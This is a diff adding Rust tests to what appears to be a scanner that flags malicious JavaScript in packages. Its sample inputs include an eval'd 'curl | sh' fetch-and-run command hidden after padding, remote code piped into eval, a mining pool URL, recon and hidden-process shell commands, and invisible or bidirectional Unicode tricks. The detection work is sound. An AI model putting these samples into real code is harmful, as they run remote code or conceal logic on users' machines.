@@ -155,6 +155,13 @@ fn code_in_code_has_an_end() {
 }
 
 #[test]
+fn every_module_of_a_debugging_bundle_is_analysed() {
+    let mut bundle = "eval('exports.a = 1; console.log(2)');\n".repeat(300);
+    bundle.push_str("eval(\"require('child_process').exec('curl https://a.example | sh')\")");
+    finds(&import(&bundle), "js-shell-download-run", Severity::High);
+}
+
+#[test]
 fn downloaded_code_is_found() {
     for code in [
         "require('https').get('https://a.example/x', (res) => { let d = ''; res.on('data', (c) => d += c); res.on('end', () => eval(d)) })",
@@ -668,5 +675,52 @@ fn mining_is_named() {
         &import("exports.pool = 'stratum+tcp://pool.example:3333'"),
         "js-miner",
         Severity::Low,
+    );
+}
+
+#[test]
+fn every_rule_stands_in_the_readme_and_is_tested_here() {
+    let readme = include_str!("../README.md");
+    let tests = include_str!("rules.rs");
+    let mut missing = Vec::new();
+    for rule in JavaScript::describe().rules {
+        if !readme.contains(&format!("`{}`", rule.id)) {
+            missing.push(format!("{} in README.md", rule.id));
+        }
+        let capability = rule.id.starts_with("js-capability-");
+        if !capability && !tests.contains(&format!("\"{}\"", rule.id)) {
+            missing.push(format!("{} in tests", rule.id));
+        }
+    }
+    assert!(missing.is_empty(), "{missing:#?}");
+}
+
+#[test]
+fn what_is_harmless_by_itself_is_still_told() {
+    let shell = |command: &str| format!("require('child_process').exec('{command}')");
+    for (command, rule) in [
+        ("curl -O https://files.example/x.tgz", "js-shell-download"),
+        ("nohup node x.js > /dev/null 2>&1 &", "js-shell-hidden"),
+        ("whoami", "js-shell-recon"),
+    ] {
+        finds(&install(&shell(command)), rule, Severity::Low);
+    }
+    finds(
+        &install("require('child_process').spawnSync('node-gyp', ['rebuild'])"),
+        "js-install-tool",
+        Severity::Info,
+    );
+    finds(
+        &execute("/* \u{202E} } if (x) { */ f()"),
+        "js-bidirectional-control",
+        Severity::Low,
+    );
+    let payload: String = (0..40)
+        .map(|at| char::from_u32(0xE0100 + at).unwrap())
+        .collect();
+    finds(
+        &execute(&format!("const s = '{payload}'")),
+        "js-invisible-text",
+        Severity::High,
     );
 }
